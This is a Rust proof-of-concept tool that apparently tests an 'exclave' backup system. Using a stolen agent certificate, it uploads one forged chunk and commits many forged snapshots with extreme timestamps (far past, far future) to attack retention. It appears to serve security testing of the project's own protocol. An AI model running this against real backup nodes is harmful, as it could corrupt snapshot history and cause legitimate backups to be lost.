//! What a stolen agent certificate can do to retention: commits COUNT snapshots of SOURCE
//! through the real protocol, claiming times from the far past to the far future, each
//! referencing one tiny chunk it uploads first (a valid envelope of one byte; a node checks
//! envelopes, never plaintext).
//!
//! Usage: exclave-forge-commits NODE PKI IDENTITY SOURCE COUNT
//!
//! Prints JSON: how many commits were acknowledged.

use std::net::SocketAddr;

use exclave::client::NodeClient;
use exclave::protocol::{PutChunk, Reply, Request, SnapshotInfo};
use exclave::transport::TlsIdentity;
use exclave::{Checksum, ChunkId};

#[tokio::main]
async fn main() {
    let args: Vec<String> = std::env::args().collect();
    if args.len() != 6 {
        eprintln!("usage: exclave-forge-commits NODE PKI IDENTITY SOURCE COUNT");
        std::process::exit(2);
    }
    let node: SocketAddr = args[1].parse().expect("NODE is an address");
    let tls = TlsIdentity::load(std::path::Path::new(&args[2]), &args[3]).expect("identity");
    let source = args[4].clone();
    let count: i64 = args[5].parse().expect("COUNT");
    let client = NodeClient::connect(node, &tls).await.expect("connect");

    let mut envelope = b"XVE\x01\x00\x00\x00\x00\x00\x00".to_vec();
    envelope.extend_from_slice(&1u32.to_le_bytes());
    envelope.extend_from_slice(&[0u8; 12]);
    envelope.push(0x5a);
    envelope.extend_from_slice(&[0u8; 16]);
    let root = ChunkId(*blake3::hash(b"forged root").as_bytes());
    let put = PutChunk { id: root, checksum: Checksum::of(&envelope), envelope: envelope.into() };
    match client.call(&[Request::PutChunks { chunks: vec![put] }]).await {
        Ok(Reply::Ok) => {}
        other => panic!("upload refused: {other:?}"),
    }
    let mut committed = 0;
    for i in 0..count {
        let time = match i % 4 {
            0 => i64::MIN + i,
            1 => i64::MAX - i,
            2 => 4_102_444_800 + i * 86_400, // from 2100 on, a day apart
            _ => i * 3_600,                  // 1970
        };
        let snap = SnapshotInfo {
            id: format!("forged{i:05}"),
            source: source.clone(),
            time,
            root,
            key_fingerprint: "0000000000000000".into(),
            agent: String::new(),
            hostname: "forged".into(),
            files: 0,
            logical_bytes: 0,
            chunks: 0,
            stored_bytes: 0,
            commit_seq: 0,
        };
        client.commit(snap, &[root]).await.expect("commit");
        committed += 1;
    }
    println!("{}", serde_json::json!({ "committed": committed }));
    client.close().await;
}
